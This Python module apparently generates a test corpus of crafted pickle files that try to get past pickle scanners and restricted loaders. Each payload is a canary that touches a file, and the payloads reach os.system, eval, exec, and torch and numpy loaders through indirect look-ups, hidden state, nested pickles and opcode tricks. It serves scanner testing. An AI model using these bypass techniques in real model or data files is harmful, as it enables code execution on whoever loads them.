"""Pickles written to get past scanners and restricted loaders, each with a payload that leaves a mark.

Ideas from what has bypassed such tools: indirect look-ups, callables hidden in state or in other
callables, instructions that scanners forget, nested pickles, and bytes after the end.
"""

import pickle
import struct
from pathlib import Path


def text(value: str) -> bytes:
    """Push a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _calls(module: str, name: str, *args: bytes) -> bytes:
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(args) + b"tR"


def programs(canary: Path) -> dict[str, bytes]:
    """Label → pickle whose unpickling would create ``canary``, or raise on the way to it."""
    command = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w')"
    run, evaluate = text(command), text(code)
    system = b"cos\nsystem\n"
    inner = b"\x80\x02" + _calls("os", "system", run) + b"."
    getattr_ = b"c__builtin__\ngetattr\n"
    builtins_ = _calls("importlib", "import_module", text("os"))
    bodies = {
        "eval": _calls("builtins", "eval", evaluate),
        "exec": _calls("builtins", "exec", evaluate),
        "compile then exec": _calls("builtins", "compile", evaluate, text("f"), text("exec")),
        "python 2 names": _calls("__builtin__", "eval", evaluate),
        "os.system": _calls("os", "system", run),
        "posix.system": _calls("posix", "system", run),
        "popen": _calls("subprocess", "getoutput", run),
        "getattr of a module": getattr_ + b"(" + builtins_ + text("system") + b"tR" + b"(" + run + b"tR",
        "getattr of a class": _calls("builtins", "getattr", b"cpathlib\nPath\n", text("touch"))
        + b"(" + _calls("pathlib", "PosixPath", text(str(canary))) + b"tR",
        "dotted global": b"\x80\x04" + text("builtins") + text("eval.__call__") + b"\x93(" + evaluate + b"tR",
        "INST": b"(" + run + b"ios\nsystem\n",
        "OBJ": b"(" + system + run + b"o",
        "NEWOBJ": system + b"(" + run + b"t\x81",
        "NEWOBJ_EX": system + b"(" + run + b"t}\x92",
        "STACK_GLOBAL": text("os") + text("system") + b"\x93(" + run + b"tR",
        "STACK_GLOBAL from the memo": text("system") + b"q\x00" + b"0" + text("os") + b"h\x00\x93(" + run + b"tR",
        "STACK_GLOBAL by concatenation": _calls("builtins", "str", text("os")) + text("system") + b"\x93(" + run + b"tR",
        "extension registry": b"\x82\x01(" + run + b"tR",
        "extension registry 2": b"\x83\x01\x02(" + run + b"tR",
        "extension registry 4": b"\x84\x01\x02\x03\x04(" + run + b"tR",
        "state with __setstate__": b"ccollections\nOrderedDict\n)\x81}" + text("__setstate__") + system + b"sb" + run + b"b",
        "slots": b"cargparse\nNamespace\n)\x81N}" + text("__class__") + system + b"s\x86b",
        "state of a class": system + b"}" + text("__call__") + b"cbuiltins\neval\nsb",
        "state of a list": b"]}" + text("append") + system + b"sb",
        "state of a function's result": _calls("os", "getcwd") + b"}" + text("a") + system + b"sb",
        "nested pickle": _calls("pickle", "loads", b"C" + bytes([len(inner)]) + inner),
        "nested _pickle": _calls("_pickle", "loads", b"C" + bytes([len(inner)]) + inner),
        "nested torch file": _calls("torch.storage", "_load_from_bytes", b"C" + bytes([len(inner)]) + inner),
        "torch.load": _calls("torch", "load", text(str(canary))),
        "torch.hub": _calls("torch.hub", "load_state_dict_from_url", text("http://127.0.0.1:9/x")),
        "rebuild with a callable": _calls(
            "torch._tensor", "_rebuild_from_type_v2", system, b"ctorch\nTensor\n", run + b"\x85", b"}"
        ),
        "rebuild old type": _calls("torch._tensor", "_rebuild_from_type", system, b"N", run + b"\x85", b"}"),
        "default factory": b"ccollections\ndefaultdict\n(" + system + b"tR" + text("a") + b"K\x01s",
        "partial": b"cfunctools\npartial\n(" + system + run + b"tR)R",
        "partial in state": b"cfunctools\npartial\n" + system + b"\x85R(" + system + run + b"\x85}NtbR",
        "method caller": b"coperator\nmethodcaller\n(" + text("system") + run + b"tR(" + builtins_ + b"tR",
        "attribute getter": b"coperator\nattrgetter\n(" + text("system") + b"tR(" + builtins_ + b"tR",
        "map": _calls("builtins", "map", system, run + b"\x85"),
        "reconstructor": _calls("copyreg", "_reconstructor", system, b"cbuiltins\nstr\n", run),
        "newobj function": _calls("copyreg", "__newobj__", system, run),
        "newobj_ex function": _calls("copyreg", "__newobj_ex__", system, run + b"\x85", b"}"),
        "numpy subclass": _calls("numpy._core.multiarray", "_reconstruct", system, b"K\x00\x85", run),
        "numpy dtype": _calls("numpy", "dtype", evaluate, b"\x89", b"\x88"),
        "numpy load": _calls("numpy", "load", text(str(canary)), b"N", b"\x88"),
        "numpy fromfile": _calls("numpy", "fromfile", text(str(canary))),
        "numpy memmap": _calls("numpy", "memmap", text(str(canary)), text("u1"), text("w+"), b"K\x00", b"K\x08\x85"),
        "numpy runstring": _calls("numpy.testing._private.utils", "runstring", evaluate, b"}"),
        "jax array": _calls("jax._src.array", "_reconstruct_array", system, run + b"\x85", b"(K\x01)Ntt", b"}"),
        "codec": _calls("_codecs", "encode", run, text("os")),
        "codec look-up": _calls("codecs", "lookup", text("symdiag_evil")),
        "code object": _calls("types", "FunctionType", _calls("marshal", "loads", b"C\x01N"), b"}"),
        "timeit": _calls("timeit", "timeit", evaluate),
        "runpy": _calls("runpy", "run_path", text(str(canary))),
        "profile": _calls("cProfile", "run", evaluate),
        "debugger": _calls("bdb", "Bdb") + b"0" + _calls("pdb", "run", evaluate),
        "console": _calls("code", "interact"),
        "pager": _calls("pydoc", "pipepager", text("x"), run),
        "pty": _calls("pty", "spawn", run),
        "asyncio": _calls("asyncio.unix_events", "_UnixSubprocessTransport._start", run, b"\x88"),
        "webbrowser": _calls("webbrowser", "open", text(f"file://{canary}")),
        "ctypes": _calls("ctypes", "CDLL", text("libc.so.6")),
        "site-packages finder": _calls("importlib._bootstrap", "_call_with_frames_removed", system, run),
        "signal": _calls("signal", "raise_signal", b"K\x0f"),
        "write a file": _calls("io", "open", text(str(canary)), text("w")),
        "write by pathlib": _calls("pathlib", "Path.touch", _calls("pathlib", "PosixPath", text(str(canary)))),
        "logging": _calls("logging", "FileHandler", text(str(canary))),
        "tempfile": _calls("tempfile", "mkstemp", text("x")),
        "sqlite": _calls("sqlite3", "connect", text(str(canary))),
        "result dropped": _calls("os", "system", run) + b"0}",
        "under a mark": b"(" + _calls("os", "system", run) + b"1}",
        "module with odd name": b"cos\x20path\nsystem\n(" + run + b"tR",
        "look-alike": "cоs\nsystem\n(".encode() + run + b"tR",
        "persistent id by line": b"Pfile\n",
        "persistent id by stack": b"(" + text("storage") + system + text("0") + text("cpu") + b"K\x01tQ",
        "persistent id of a callable": system + b"Q",
        "persistent module": b"(" + text("module") + system + text(str(canary)) + evaluate + b"tQ)R",
        "buffer": b"\x97\x98",
        "callable as a key": b"}" + system + b"K\x01s",
        "callable as a module": b"ctorch.nn.modules.container\nSequential\n)\x81}(" + text("_modules") + b"}"
        + text("0") + system + b"s" + text("_parameters") + b"}ub",
        "hash of an argument": b"}" + _calls("os", "system", run) + b"K\x01s",
    }  # fmt: skip
    every = {}
    for protocol in (0, 2, 3, 4, 5):
        mark = b"\x80" + bytes([protocol]) if protocol else b""
        every |= {
            f"{label}, protocol {protocol}": mark + body + b"." for label, body in bodies.items()
        }
    return every | {
        "unknown protocol": b"\x80\x06" + bodies["eval"] + b".",
        "two protocols": b"\x80\x02\x80\x04" + bodies["eval"] + b".",
        "after the end": pickle.dumps({}) + inner,
        "empty then payload": b"\x80\x02." + inner,
        "no end": b"\x80\x02" + bodies["eval"],
    }
